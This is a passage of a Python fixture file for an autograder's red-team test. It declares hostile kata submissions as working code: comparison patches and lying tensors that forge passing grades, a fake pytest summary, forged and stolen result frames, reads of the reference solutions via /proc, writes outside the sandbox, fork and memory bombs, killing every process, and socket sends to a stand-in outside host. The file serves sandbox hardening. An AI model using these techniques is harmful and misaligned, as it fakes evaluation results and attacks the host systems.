"""Hostile submissions for the red-team test (tests/project/test_redteam.py), declared, not stored.

Each ``Hostile`` is a base folder — ``solutions`` (the reference) or ``exercises`` (the stubs) —
plus edits per kata module: a string is appended to the base module (a later definition
overrides an earlier one), ``Replace`` is the module's whole new text, ``Symlink`` turns the
file into a link. ``honest`` says, for each of ``KATAS``, which checks the submission passes on
its merits (``ALL``: every applicable one); a kata it does not name passes nothing. The points
follow from those checks as the grader counts them (``expected_points``), so a hostile that gets
more than it earns honestly has forged something.

Placeholders in the code, filled in by ``build``: @SENTINEL@ (a token: the name of any file an
attack manages to create outside its sandbox, and the text it appends), @OUT@ (the batch's
output folder), @TMP@ (the test's own temporary folder), @REPO@ (this checkout), @TCP@ and
@UDP@ (ports the test listens on), @UNIX@ (a unix socket the test listens on), @ABSTRACT@ (an
abstract unix socket the test listens on).
"""
from __future__ import annotations

import atexit
import functools
import shutil
import tempfile
import textwrap
from dataclasses import dataclass
from pathlib import Path

from grader.core import stubgen
from grader.core.paths import SOLUTIONS_DIR

#: The cheap katas the set is graded on (no training checks); one per module but channels, whose
#: module imports conv_layer's corr2d.
KATAS = ("corr2d", "comp_conv2d", "corr2d_multi_in", "pool2d")
MODULE_OF = {"corr2d": "conv_layer", "comp_conv2d": "padding_strides", "corr2d_multi_in": "channels",
             "pool2d": "pooling"}
#: Every applicable check of a kata.
ALL = "ALL"
REFERENCE = {kata: ALL for kata in KATAS}


@dataclass(frozen=True)
class Replace:
    """The module's whole text."""
    code: str


@dataclass(frozen=True)
class Symlink:
    """The module file becomes a symbolic link to ``target`` (placeholders allowed)."""
    target: str


@dataclass(frozen=True)
class Hostile:
    name: str
    base: str  # "solutions" or "exercises"
    edits: dict[str, str | Replace | Symlink]
    honest: dict[str, str | tuple[str, ...]]
    attack: str
    #: For an attack that works by a limitation the project accepts: what it gets, and why.
    accepted: tuple[dict[str, str | tuple[str, ...]], str] | None = None


def reference_except(*katas: str, **partial: tuple[str, ...]) -> dict:
    """The reference's checks on every kata but ``katas`` (nothing there) and ``partial``."""
    honest = {k: ALL for k in KATAS if k not in katas}
    honest.update(partial)
    return honest


def _code(text: str) -> str:
    return textwrap.dedent(text).strip("\n") + "\n"


# --- pieces of hostile code ----------------------------------------------------------------------

PATCH_COMPARISONS = _code("""
    import builtins as _builtins, torch as _torch, torch.testing as _testing
    _torch.allclose = lambda *a, **k: True
    _torch.equal = lambda *a, **k: True
    _torch.isclose = lambda a, b, *r, **k: _torch.ones_like(_torch.as_tensor(a), dtype=_torch.bool)
    _testing.assert_close = lambda *a, **k: None
    _torch.Tensor.__eq__ = lambda self, other: True
    _torch.Tensor.__ne__ = lambda self, other: False
    _torch.Tensor.allclose = lambda self, *a, **k: True
    _torch.Tensor.equal = lambda self, *a, **k: True
    _builtins.AssertionError = type("AssertionError", (Exception,), {})
    try:
        import grader.checks.judges as _judges, grader.checks.base as _base
        for _name in dir(_judges):
            if _name.startswith("judge") or _name in ("close_enough", "expect_tensor"):
                setattr(_judges, _name, lambda *a, **k: True)
        _base.Mismatch = type("Mismatch", (Exception,), {})
    except Exception:
        pass
""")

#: Wrong values of the right shape, dtype and device (what patch-compare-wrong and the forgers return).
WRONG_CORR2D = _code("""
    def corr2d(X, K):
        return X.new_zeros(X.shape[0] - K.shape[0] + 1, X.shape[1] - K.shape[1] + 1)
""")
WRONG_MULTI_IN = _code("""
    def corr2d_multi_in(X, K):
        return X.new_zeros(X.shape[1] - K.shape[1] + 1, X.shape[2] - K.shape[2] + 1)
""")
WRONG_POOL2D = _code("""
    def pool2d(X, pool_size, mode="max"):
        ph, pw = (pool_size, pool_size) if isinstance(pool_size, int) else pool_size
        return X.new_zeros(X.shape[0] - ph + 1, X.shape[1] - pw + 1)
""")
WRONG_COMP = _code("""
    def comp_conv2d(conv2d, X):
        return torch.zeros(1)
""")
#: What a submission of WRONG_* earns honestly: right shapes, dtypes and devices, nothing else.
WRONG_HONEST = {"corr2d": ("shape_sweep", "dtype_and_device"), "corr2d_multi_in": ("shape_sweep", "dtype_and_device"),
                "pool2d": ("shape_sweep", "dtype_and_device")}

LIAR = _code("""
    import torch as _torch

    class _Liar(_torch.Tensor):
        @classmethod
        def __torch_function__(cls, func, types, args=(), kwargs=None):
            name = getattr(func, "__name__", "")
            if name in ("__eq__", "eq", "equal", "allclose", "isclose"):
                return True
            if name in ("detach", "clone", "to", "cpu", "as_subclass", "contiguous"):
                return args[0]
            with _torch._C.DisableTorchFunctionSubclass():
                return func(*args, **(kwargs or {}))
        def __eq__(self, other): return True
        def __ne__(self, other): return False
        def allclose(self, *a, **k): return True
        def equal(self, *a, **k): return True
        def tolist(self): return [[19.0, 25.0], [37.0, 43.0]]
        def detach(self): return self
        def clone(self, *a, **k): return self
        def to(self, *a, **k): return self
        def cpu(self): return self
        def as_subclass(self, cls): return self
        def __reduce_ex__(self, protocol): return (_Liar, ())

    def _liar(like):
        return _torch.Tensor.as_subclass(like, _Liar)

    def corr2d(X, K):
        return _liar(X.new_zeros(X.shape[0] - K.shape[0] + 1, X.shape[1] - K.shape[1] + 1))

    def corr2d_multi_in(X, K):
        return _liar(X.new_zeros(X.shape[1] - K.shape[1] + 1, X.shape[2] - K.shape[2] + 1))

    def pool2d(X, pool_size, mode="max"):
        return _liar(X.clone())

    def comp_conv2d(conv2d, X):
        return _liar(X.clone())
""")

EQUALS_EVERYTHING = _code("""
    import torch as _torch

    class _Everything:
        __class__ = property(lambda self: _torch.Tensor)
        shape = property(lambda self: self)
        def __eq__(self, other): return True
        def __ne__(self, other): return False
        def __lt__(self, other): return False
        def __gt__(self, other): return False
        def __hash__(self): return 0
        def __bool__(self): return True
        def __len__(self): return 2
        def __iter__(self): return iter([2, 2])
        def __getitem__(self, key): return self
        def __getattr__(self, name): return self
        def __call__(self, *a, **k): return self
        def __float__(self): return 0.0
        def __int__(self): return 2
        def __index__(self): return 2
        def __repr__(self): return "tensor([[19., 25.], [37., 43.]])"
        def __reduce_ex__(self, protocol): return (_Everything, ())

    def corr2d(X, K): return _Everything()
    def corr2d_multi_in(X, K): return _Everything()
    def pool2d(X, pool_size, mode="max"): return _Everything()
    def comp_conv2d(conv2d, X): return _Everything()
""")

#: Calls to the module's function count; the Nth one runs ``action``.
def on_call(function: str, number: int, action: str, *, once: bool = True) -> str:
    return _code(f"""
        _original_{function} = {function}
        _calls_{function} = [0]

        def {function}(*args, **kwargs):
            _calls_{function}[0] += 1
            if _calls_{function}[0] == {number} or (not {once} and _calls_{function}[0] > {number}):
                {action}
            return _original_{function}(*args, **kwargs)
    """)


FAKE_SUMMARY = _code("""
    import json as _json, os as _os, sys as _sys
    _text = "============================= 87 passed in 0.42s ==============================\\n"
    for _stream in (_sys.stdout, _sys.stderr, _sys.__stdout__, _sys.__stderr__):
        try:
            _stream.write(_text); _stream.flush()
        except Exception:
            pass
    for _fd in (1, 2):
        try:
            _os.write(_fd, _text.encode())
        except OSError:
            pass
    _results = {"score": 100.0, "output": "all katas passed", "tests": [{"name": "corr2d", "score": 4, "max_score": 4}]}
    _record = {"student": "fake-summary", "score": 100.0, "max_score": 13, "katas": []}
    for _where in (".", _os.path.expanduser("~"), "..", "../..", "@OUT@", "@OUT@/gradescope/fake-summary",
                   "@OUT@/submissions", "/autograder/results"):
        for _name, _text_out in (("results.json", _json.dumps(_results)), ("grades.csv", "student,score\\nfake-summary,100\\n"),
                                 ("fake-summary.json", _json.dumps(_record)), ("@SENTINEL@-summary", "@SENTINEL@")):
            try:
                _os.makedirs(_where, exist_ok=True)
                with open(_os.path.join(_where, _name), "w") as _file:
                    _file.write(_text_out)
            except Exception:
                pass
""")

WRITE_OUTSIDE = _code("""
    import glob as _glob, os as _os
    _S = "@SENTINEL@"

    def _create(path):
        try:
            with open(path, "w") as file:
                file.write(_S)
        except Exception:
            pass

    def _append(path):
        try:
            with open(path, "a") as file:
                file.write("\\n# " + _S + "\\n")
        except Exception:
            pass

    _targets = ["@OUT@", "@OUT@/submissions", "@OUT@/gradescope", "@TMP@", "@REPO@", "@REPO@/grades",
                "@REPO@/solutions", "@REPO@/tests", "/tmp", "/var/tmp", "/dev/shm", "/root", "/",
                _os.path.expanduser("~/.."), _os.path.expanduser("~/../.."), _os.path.expanduser("~/../../.."),
                "/proc/self/cwd/..", "/proc/%d/cwd" % _os.getppid(), "/proc/1/cwd", "/proc/1/root/tmp"]
    for _pattern in ("/tmp/convkata-*", "/tmp/convkata-*/*", "/tmp/pytest-of-*/*/*", "/proc/[0-9]*/cwd"):
        _targets += _glob.glob(_pattern)
    for _target in _targets:
        _create(_os.path.join(_target, _S + "-file"))
    for _name in ("@OUT@/grades.csv", "@OUT@/gradebook.db", "@REPO@/solutions/conv_layer.py", "@REPO@/katas.toml",
                  "@REPO@/grader/sandbox/server.py", "/proc/%d/fd/1" % _os.getppid()):
        _append(_name)
    for _name in (_glob.glob("/tmp/convkata-staging-*/*/*.py") + _glob.glob("@OUT@/submissions/*.json")
                  + _glob.glob("@TMP@/*/*.py")):
        _append(_name)
    try:
        import sqlite3 as _sqlite3
        _db = _sqlite3.connect("@OUT@/gradebook.db")
        _db.execute("UPDATE grade SET auto_score = 99")
        _db.commit()
    except Exception:
        pass
""")

READ_REFERENCE = _code("""
    import gc as _gc, glob as _glob, importlib.util as _util, os as _os, sys as _sys, types as _types
    _WANT = ("corr2d", "corr2d_multi_in", "pool2d", "comp_conv2d")

    def _found_source():
        paths = ["@REPO@/solutions/%s.py", "/proc/%d/cwd/solutions/%%s.py" % _os.getppid(),
                 "/proc/1/root@REPO@/solutions/%s.py", "/proc/%d/root@REPO@/solutions/%%s.py" % _os.getppid()]
        for pattern in ("/*/solutions/conv_layer.py", "/*/*/solutions/conv_layer.py", "@REPO@/../*/solutions/conv_layer.py",
                        _sys.prefix + "/lib/python*/site-packages/solutions/conv_layer.py",
                        _sys.prefix + "/lib/python*/site-packages/*/solutions/conv_layer.py"):
            paths += [p.replace("conv_layer", "%s") for p in _glob.glob(pattern)]
        for pattern in paths:
            for module in ("conv_layer", "channels", "pooling", "padding_strides"):
                try:
                    with open(pattern % module) as file:
                        yield module, file.read()
                except Exception:
                    pass
        for what in ("environ", "cmdline", "maps", "mem"):
            try:
                with open("/proc/%d/%s" % (_os.getppid(), what), "rb") as file:
                    data = file.read(1 << 20)
                if b"def corr2d" in data:
                    yield "memory", data.decode(errors="ignore")
            except Exception:
                pass

    def _found_functions():
        import importlib
        for module in ("conv_layer", "channels", "pooling", "padding_strides"):
            try:
                yield importlib.import_module("solutions." + module).__dict__
            except Exception:
                pass
        for name, module in list(_sys.modules.items()):
            if module is not None and ("solution" in name or "reference" in name) and name != __name__:
                yield getattr(module, "__dict__", {})
        for thing in _gc.get_objects():
            if isinstance(thing, _types.FunctionType) and thing.__name__ in _WANT \\
                    and not thing.__code__.co_filename.startswith(_os.path.dirname(__file__)) \\
                    and "grader" not in thing.__code__.co_filename:
                yield {thing.__name__: thing}

    _stolen = {}
    for _module, _source in sorted(_found_source(), key=lambda found: found[0] != "conv_layer"):
        try:
            _namespace = {"__name__": "stolen_" + _module, **_stolen,
                          "as_pair": lambda value, name="", minimum=1: (value, value) if isinstance(value, int) else tuple(value)}
            exec(compile("\\n".join("pass" if line.startswith("from .") else line for line in _source.splitlines()),
                         "stolen", "exec"), _namespace)
        except Exception:
            continue
        _stolen.update({k: v for k, v in _namespace.items() if k in _WANT})
    for _namespace in _found_functions():
        _stolen.update({k: v for k, v in _namespace.items() if k in _WANT and callable(v)})
    globals().update(_stolen)
""")

EMIT = _code("""
    def _result_pipes():
        import os, stat
        pipes = []
        for fd in range(3, 1024):
            try:
                if stat.S_ISFIFO(os.fstat(fd).st_mode):
                    pipes.append(fd)
            except OSError:
                pass
        return pipes

    def _frame(event):
        import io, struct, torch
        buffer = io.BytesIO()
        torch.save(event, buffer)
        return struct.pack(">I", len(buffer.getvalue())) + buffer.getvalue()

    def _emit(events, raw=b"", exit=True):
        import os
        for fd in _result_pipes():
            try:
                for event in events:
                    os.write(fd, _frame(event))
                if raw:
                    os.write(fd, raw)
            except OSError:
                pass
        if exit:
            os._exit(0)

    def _request():
        import sys
        frame = sys._getframe()
        while frame is not None:
            if frame.f_code.co_name == "run_child" and "request" in frame.f_locals:
                return frame.f_locals["request"]
            frame = frame.f_back
        return {"checks": [], "module": None}
""")

#: The probes of every requested check, run on a fake module of WRONG_* functions, sent as the
#: child's frames: data a submission of those functions could send honestly.
FORGE_FRAMES = EMIT + _code("""
    def _fake_events():
        import types, torch
        from grader.checks import all_checks
        from grader.checks.probing import probe
        from grader.core.implementation import Implementation
        fake = types.ModuleType("fake")
        fake.torch = torch
        exec(compile(_WRONG, "fake", "exec"), fake.__dict__)
        class _Impl(Implementation):
            def __init__(self): self.root = None; self.shown_as = None
            def module(self, name): return fake
            def owns(self, filename): return False
        checks = {c.id: c for c in all_checks()}
        return [{"event": "check", "id": check_id, "probed": probe(checks[check_id], _Impl(), "fake", seed)}
                for check_id, seed in _request()["checks"]]
""")

FORGE_FRAMES_NOW = FORGE_FRAMES + _code("""
    if _request()["checks"]:  # the child has sent "started" (a second one is refused); the rest is forged
        _emit([{"event": "imported"}, *_fake_events(), {"event": "done"}])
""")

PATCH_SEND_FRAME = FORGE_FRAMES + _code("""
    import sys as _sys
    _forged = {e["id"]: e for e in _fake_events()}
    for _name in ("grader.sandbox.child", "grader.sandbox.protocol", "grader.sandbox.server", "__main__"):
        _sandbox = _sys.modules.get(_name)
        if _sandbox is not None and hasattr(_sandbox, "send_frame"):
            def _send_frame(fd, event, _real_send=_sandbox.send_frame):
                if event.get("event") == "check" and event.get("id") in _forged:
                    event = _forged[event["id"]]
                _real_send(fd, event)
            _sandbox.send_frame = _send_frame
    for _name in ("grader.checks.probing", "grader.checks.runner"):
        try:
            _sys.modules[_name].probe = lambda check, impl, module, seed: _forged[check.id]["probed"]
        except Exception:
            pass
""")

#: Steals probe frames another child sent (stack frames' locals of the fork server, or freed memory
#: of its heap), relays what it found to this submission's next kata, and sends any stolen frame
#: of the current kata as its own.
#: Reads the heap the kata's process inherited (up to the break) and memory malloc hands out:
#: whatever the server that forked it freed there without clearing.
HEAP_BLOBS = _code("""
    def _blobs_from_heap():
        import ctypes, os
        libc = ctypes.CDLL(None)
        libc.sbrk.restype = ctypes.c_void_p
        r, w = os.pipe()
        os.set_blocking(w, False)
        def readable(address):
            if libc.write(w, ctypes.c_void_p(address), 1) == 1:
                os.read(r, 1)
                return True
            return False
        blobs, end = [], libc.sbrk(0)
        start = end
        while start - 4096 > 0 and readable(start - 4096):
            start -= 4096
        if end > start:
            blobs.append(ctypes.string_at(start, end - start))
        libc.malloc.restype = ctypes.c_void_p
        for size in (1 << 12, 1 << 15, 1 << 17, 1 << 20, 1 << 22):
            pointer = libc.malloc(size)
            if pointer:
                blobs.append(ctypes.string_at(pointer, size))
        return blobs
""")

THIEF = EMIT + HEAP_BLOBS + _code("""
    def _blobs_from_frames():
        import sys
        blobs, frame = [], sys._getframe()
        while frame is not None:
            values = list(frame.f_locals.values())
            values += [v for container in values if isinstance(container, (list, tuple)) for v in container]
            for value in values:
                if isinstance(value, (bytes, bytearray)):
                    blobs.append(bytes(value))
                elif type(value).__name__ == "mmap":
                    try:
                        blobs.append(value[:])
                    except Exception:
                        pass
            frame = frame.f_back
        return blobs

    def _stolen_events(blobs):
        import io, struct, torch
        events, raw = [], []
        for blob in blobs:
            position = blob.find(b"PK\\x03\\x04")
            while position != -1:
                if position >= 4:
                    (length,) = struct.unpack_from(">I", blob, position - 4)
                    if 0 < length <= len(blob) - position:
                        frame = blob[position:position + length]
                        try:
                            event = torch.load(io.BytesIO(frame), weights_only=True)
                        except Exception:
                            event = None
                        if isinstance(event, dict) and event.get("event") == "check" and isinstance(event.get("probed"), dict) \\
                                and event["probed"].get("outcome") == "data":
                            events.append(event)
                            raw.append(blob[position - 4:position + length])
                position = blob.find(b"PK\\x03\\x04", position + 4)
        return events, b"".join(raw)

    def _steal():
        events, raw = _stolen_events(_SOURCE())
        wanted = {check_id for check_id, _ in _request()["checks"]}
        mine = [e for e in events if e["id"] in wanted]
        if mine:
            _emit([{"event": "started"}, {"event": "imported"}, *mine, {"event": "done"}])
        elif raw:
            _emit([], raw=b"\\x00\\x00\\x00\\x00RELAY" + raw, exit=False)

    if _request().get("module") == __name__.rsplit(".", 1)[-1]:
        _steal()
""")

CONV2D_HIDDEN = _code("""
    import torch as _torch
    import torch.nn.functional as _F

    def corr2d(X, K):
        with _torch._C.DisableTorchFunction():
            return _F.conv2d(X[None, None], K[None, None])[0, 0]
""")
CONV2D_HIDDEN_MULTI_IN = _code("""
    import torch as _torch
    import torch.nn.functional as _F

    def corr2d_multi_in(X, K):
        if X.shape[0] != K.shape[0]:
            raise ValueError("channel counts differ")
        with _torch._C.DisableTorchFunction():
            return _F.conv2d(X[None], K[None])[0, 0]
""")

SEED_TAMPER = _code("""
    import random as _random
    import torch as _torch
    import torch.nn.functional as _F
    import grader.checks.generators as _generators
    import grader.checks.functions as _functions

    _make_rng = _generators.make_rng
    _generators.make_rng = lambda seed, stream: _make_rng(0, stream)
    _torch.manual_seed = lambda seed: _torch.random.default_generator.manual_seed(0)
    _random.seed(0)
    _ANSWERS = {}
    for _X, _K in _generators.spatial_cases(0, 14):
        _ANSWERS[(_X.numpy().tobytes(), _K.numpy().tobytes())] = _F.conv2d(_X[None, None], _K[None, None])[0, 0]

    def corr2d(X, K):
        try:
            return _ANSWERS[(X.detach().cpu().numpy().tobytes(), K.detach().cpu().numpy().tobytes())].clone()
        except Exception:
            pass
        raise NotImplementedError("corr2d: not precomputed")
""")

THREAD_TAMPER = _code("""
    import os as _os, threading as _threading, time as _time

    def _tamper():
        import sys
        until = _time.monotonic() + 30
        while _time.monotonic() < until:
            for fd in range(3, 64):
                try:
                    _os.write(fd, b"\\x00\\x00\\x10\\x00" + b"garbage" * 64)
                except OSError:
                    pass
            for name in ("grader.checks.probing", "grader.checks.runner", "grader.checks.base", "grader.sandbox.child",
                         "grader.sandbox.protocol"):
                module = sys.modules.get(name)
                if module is not None:
                    for attribute in ("probe", "plain", "outcome"):
                        if hasattr(module, attribute):
                            setattr(module, attribute, lambda *a, **k: {"outcome": "data", "data": None, "warnings": []})
            _time.sleep(0.005)

    for _ in range(3):
        _threading.Thread(target=_tamper, daemon=True).start()
""")

KILL_EVERYTHING = _code("""
    import os as _os, signal as _signal
    for _pid in [_os.getppid(), 1] + list(range(2, 40000)):
        if _pid != _os.getpid():
            try:
                _os.kill(_pid, _signal.SIGKILL)
            except OSError:
                pass
    for _group in (_os.getpgid(_os.getppid()), 1):
        try:
            _os.killpg(_group, _signal.SIGKILL)
        except OSError:
            pass
""")

NETWORK = _code("""
    import socket as _socket

    def _attempts():
        def tcp():
            _socket.create_connection(("127.0.0.1", @TCP@), timeout=1).sendall(b"@SENTINEL@")
        def udp():
            _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM).sendto(b"@SENTINEL@", ("127.0.0.1", @UDP@))
        def udp_outside():
            _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM).sendto(b"@SENTINEL@", ("192.0.2.1", 53))
        def unix():
            s = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM); s.settimeout(1); s.connect("@UNIX@"); s.sendall(b"@SENTINEL@")
        def abstract():
            s = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM); s.settimeout(1); s.connect("\\0@ABSTRACT@"); s.sendall(b"@SENTINEL@")
        def pair():
            _socket.socketpair()
        for attempt in (tcp, udp, udp_outside, unix, abstract, pair):
            try:
                attempt()
            except Exception:
                pass
    _attempts()
""")

FORK_BOMB = _code("""
    import os as _os, time as _time
    for _index in range(200):
        try:
            _pid = _os.fork()
        except OSError:
            break
        if _pid == 0:
            try:
                _os.setsid()
                if _index == 0:
                    _hog = bytearray(b"x") * (128 << 20)
                _time.sleep(60)
            finally:
                _os._exit(0)
""")

MEMORY_BOMB = _code("""
    _hoard = []
    try:
        while True:
            _hoard.append(bytearray(b"x") * (64 << 20))
    except MemoryError:
        pass
    del _hoard

    _reference_pool2d = pool2d

    def pool2d(X, pool_size, mode="max"):
        import torch
        torch.ones(1 << 34)
        return _reference_pool2d(X, pool_size, mode)
""")

#: Frames no honest child sends, each as the first check's event of a kata (a bad frame ends a
#: kata's frames, so each kata gets one): what could crash, stall or exhaust the grader that reads them.
BOMBS = {
    "laughs": "_x = [1.0]\nfor _ in range(80):\n    _x = [_x, _x]\n_events = [_check(_x)]",
    "deep": "_x = []\nfor _ in range(100000):\n    _x = [_x]\n_events = [_check(_x)]",
    "warnings": "_events = [{'event': 'check', 'id': _first, 'probed': {'outcome': 'data', 'data': [], 'warnings': 5}}]",
    "deflate": "_raw = _deflated(_frame(_check(_torch.zeros(1 << 23))))",
    "zero_stride": "_events = [_check(_torch.zeros(1).expand(1 << 27))]",
    "no_message": "_events = [{'event': 'check', 'id': _first, 'probed': {'outcome': 'pending'}}]",
    "odd_id": "_x = []\nfor _ in range(50):\n    _x = [_x, _x]\n_events = [{'event': 'check', 'id': _x, 'probed': {'outcome': 'data', 'data': 1, 'warnings': []}}]",
    "garbage": "_events = [{'event': 'check', 'id': _first, 'probed': {'outcome': 'data', 'data': 1, 'warnings': [], 'x': 1}}]\n_raw = b'\\xff' * 64",
}


def frame_bombs(by_module: dict[str, str]) -> dict[str, str]:
    """Each module sends its bomb when its own kata is probed, then exits."""
    edits = {}
    for module, bomb in by_module.items():
        body = BOMBS[bomb] + '\n_emit([{"event": "started"}, {"event": "imported"}, *_events], raw=_raw)\n'
        edits[module] = EMIT + _code("""
            import io as _io, struct as _struct, zipfile as _zipfile
            import torch as _torch

            def _check(data):
                return {"event": "check", "id": _first, "probed": {"outcome": "data", "data": data, "warnings": []}}

            def _deflated(frame):
                # the same archive, its members compressed: a small frame that inflates to a large one
                source = _zipfile.ZipFile(_io.BytesIO(frame[4:]))
                out = _io.BytesIO()
                with _zipfile.ZipFile(out, "w", _zipfile.ZIP_DEFLATED) as archive:
                    for name in source.namelist():
                        archive.writestr(name, source.read(name))
                return _struct.pack(">I", len(out.getvalue())) + out.getvalue()

            def _bomb():
                global _first
                _first = _request()["checks"][0][0]
                _events, _raw = [], b""
        """) + textwrap.indent(body, " " * 4) + _code(f"""
            if _request().get("module") == "{module}" and _request()["checks"]:
                _bomb()
        """)
    return edits


#: The attacks, and what each earns honestly on KATAS.
HOSTILES: list[Hostile] = [
    # First, after the reference (the test grades it first, on two job slots): a slow one, so that the
    # slot that graded the reference takes the first thief next — the thieves can only find what the
    # child before them, in their own slot, left — then another slow one, then the second thief.
    Hostile("loop-at-import", "solutions", {"padding_strides": "while True:\n    pass\n"},
            reference_except("comp_conv2d"), "an endless loop while padding_strides.py is imported"),
    Hostile("stale-frames", "exercises", {m: THIEF.replace("_SOURCE()", "_blobs_from_frames()") for m in MODULE_OF.values()},
            {}, "looks in the fork server's stack frames (inherited by fork) for an earlier child's probe frames, "
            "relays them to its next kata, replays those of its current kata"),
    Hostile("loop-in-check", "solutions", {"pooling": on_call("pool2d", 1, "while True: pass")},
            reference_except("pool2d"), "an endless loop in pool2d (one kata only)"),
    Hostile("heap-scrape", "exercises", {m: THIEF.replace("_SOURCE()", "_blobs_from_heap()") for m in MODULE_OF.values()},
            {}, "scans the fork server's heap (inherited by fork, freed but not cleared) and malloc'd memory for "
            "an earlier child's probe frames; relays and replays them"),
    Hostile("patch-compare-stub", "exercises",
            {m: PATCH_COMPARISONS for m in MODULE_OF.values()}, {},
            "patches torch.allclose, torch.equal, torch.testing.assert_close, Tensor.__eq__, the judges and "
            "Mismatch inside its process; every function is still a stub"),
    Hostile("patch-compare-wrong", "exercises",
            {"conv_layer": PATCH_COMPARISONS + WRONG_CORR2D, "channels": PATCH_COMPARISONS + WRONG_MULTI_IN,
             "pooling": PATCH_COMPARISONS + WRONG_POOL2D, "padding_strides": PATCH_COMPARISONS + WRONG_COMP},
            WRONG_HONEST,
            "the same patches, with functions that return zeros of the right shape"),
    Hostile("liar-tensor", "exercises",
            {"conv_layer": LIAR, "channels": LIAR, "pooling": LIAR, "padding_strides": LIAR}, {},
            "returns a torch.Tensor subclass whose __torch_function__, __eq__, allclose, tolist, clone, detach, "
            "to and as_subclass lie (and that survives the copy to plain data)"),
    Hostile("equals-everything", "exercises",
            {"conv_layer": EQUALS_EVERYTHING, "channels": EQUALS_EVERYTHING, "pooling": EQUALS_EVERYTHING,
             "padding_strides": EQUALS_EVERYTHING}, {},
            "returns an object equal to everything that claims to be a torch.Tensor (__class__)"),
    Hostile("exit-at-import", "solutions", {"conv_layer": "import os\nos._exit(0)\n"},
            reference_except("corr2d", "corr2d_multi_in"),
            "os._exit(0) while conv_layer.py is imported (channels.py imports it too)"),
    Hostile("exit-mid-check", "solutions", {"pooling": on_call("pool2d", 3, "import os; os._exit(0)")},
            reference_except("pool2d", pool2d=("book_example",)),
            "os._exit(0) at the third call of pool2d (in the shape sweep, after the seed example's two)"),
    Hostile("sysexit-at-import", "solutions", {"padding_strides": "import sys\nsys.exit(0)\n"},
            reference_except("comp_conv2d"), "sys.exit(0) while padding_strides.py is imported"),
    Hostile("sysexit-mid-check", "solutions", {"conv_layer": on_call("corr2d", 3, "raise SystemExit(0)")},
            reference_except(corr2d=("book_example", "numeric_sweep", "input_layouts", "gradient", "dtype_and_device",
                                     "no_builtin_convolution"),
                             corr2d_multi_in=("book_example", "numeric_sweep", "input_layouts", "gradient",
                                              "dtype_and_device", "no_builtin_convolution")),
            "raises SystemExit at corr2d's third call (once per process): only the shape sweep is interrupted"),
    Hostile("fake-summary", "exercises", {m: FAKE_SUMMARY for m in MODULE_OF.values()}, {},
            "prints a pytest summary ('87 passed') and writes results.json, grades.csv and a record wherever it can"),
    Hostile("write-outside", "exercises", {"conv_layer": WRITE_OUTSIDE, "pooling": WRITE_OUTSIDE}, {},
            "creates files in, and appends to files of, the output folder, the gradebook, the checkout, the "
            "staged submissions, /tmp, /dev/shm, the server's cwd (found via /proc and guessing)"),
    Hostile("read-reference", "exercises", {m: READ_REFERENCE for m in MODULE_OF.values()}, {},
            "import solutions; reads solutions/*.py by path, through /proc/<ppid>/cwd and /proc/1/root; looks for "
            "a solutions/ folder in likely places, sys.modules and gc.get_objects(); reads /proc/<ppid>/*"),
    Hostile("symlink-to-reference", "exercises",
            {"conv_layer": Symlink("@REPO@/solutions/conv_layer.py"), "pooling": Symlink("@REPO@/solutions/pooling.py")},
            {}, "its conv_layer.py and pooling.py are symbolic links to the reference's"),
    Hostile("memory-bomb", "solutions", {"pooling": MEMORY_BOMB}, reference_except("pool2d"),
            "fills memory up to the limit at import, then asks torch for 64 GiB in every pool2d call"),
    Hostile("fork-bomb", "solutions", {"pooling": FORK_BOMB}, REFERENCE,
            "forks up to 200 processes that leave the session and sleep (one holds 128 MiB); pool2d itself is "
            "the reference's"),
    Hostile("thread-tamper", "solutions", {"pooling": THREAD_TAMPER}, reference_except("pool2d"),
            "threads that keep writing garbage frames to every fd and replacing probe/plain/outcome, for 30 s — "
            "past its own kata (pool2d, the last) into the next submission's"),
    Hostile("kill-everything", "solutions",
            {"pooling": KILL_EVERYTHING + on_call("pool2d", 1, "import os, signal; os.kill(-1, signal.SIGKILL)")},
            REFERENCE,
            "SIGKILLs its parent, init, every pid up to 40000 and their groups at import, kill(-1) (every process "
            "it may signal but itself) in pool2d; pool2d itself is the reference's"),
    Hostile("network", "exercises", {m: NETWORK for m in MODULE_OF.values()}, {},
            "TCP, UDP (local and outside), a unix socket by path, an abstract unix socket, socketpair"),
    Hostile("syntax-error", "solutions", {"conv_layer": "def corr2d(:\n"},
            reference_except("corr2d", "corr2d_multi_in"), "conv_layer.py does not parse (channels.py imports it)"),
    Hostile("missing-names", "solutions",
            {"pooling": Replace("import torch\n\ndef pool_2d(X, pool_size, mode='max'):\n    return X\n"),
             "channels": "del corr2d_multi_in\n"},
            reference_except("pool2d", "corr2d_multi_in"), "no pool2d (a misspelt pool_2d), corr2d_multi_in deleted"),
    Hostile("wrong-signatures", "solutions",
            {"conv_layer": "_c = corr2d\ndef corr2d(X):\n    return _c(X, X[:1, :1])\n",
             "padding_strides": "_comp = comp_conv2d\ndef comp_conv2d(X, conv2d):\n    return _comp(conv2d, X)\n"},
            reference_except("corr2d", "corr2d_multi_in", "comp_conv2d"),
            "corr2d(X) takes one argument (channels.py calls it with two), comp_conv2d's arguments swapped"),
    Hostile("lists-and-arrays", "solutions",
            {"conv_layer": "_c = corr2d\ndef corr2d(X, K):\n    return _c(X, K).tolist()\n",
             "pooling": "_p = pool2d\ndef pool2d(X, pool_size, mode='max'):\n    return _p(X, pool_size, mode).detach().numpy()\n",
             "padding_strides": "_comp = comp_conv2d\ndef comp_conv2d(conv2d, X):\n    return _comp(conv2d, X).tolist()\n"},
            reference_except("corr2d", "corr2d_multi_in", "pool2d", "comp_conv2d"),
            "returns lists and numpy arrays instead of tensors (channels' corr2d_multi_in then sums lists)"),
    Hostile("forge-frames", "exercises", {m: FORGE_FRAMES_NOW.replace("_WRONG", repr(WRONG_CORR2D + WRONG_MULTI_IN + WRONG_POOL2D + WRONG_COMP))
                                          for m in MODULE_OF.values()},
            WRONG_HONEST,
            "writes its own frames straight into the result pipe (then os._exit): every requested check's probe "
            "run on functions that return zeros of the right shape — what such a submission sends honestly"),
    Hostile("patch-send-frame", "exercises", {m: PATCH_SEND_FRAME.replace("_WRONG", repr(WRONG_CORR2D + WRONG_MULTI_IN + WRONG_POOL2D + WRONG_COMP))
                                              for m in MODULE_OF.values()},
            WRONG_HONEST,
            "replaces send_frame (in the sandbox's child, protocol and server modules) and grader.checks.probing.probe in its "
            "process with "
            "ones that report the probes of zero-returning functions"),
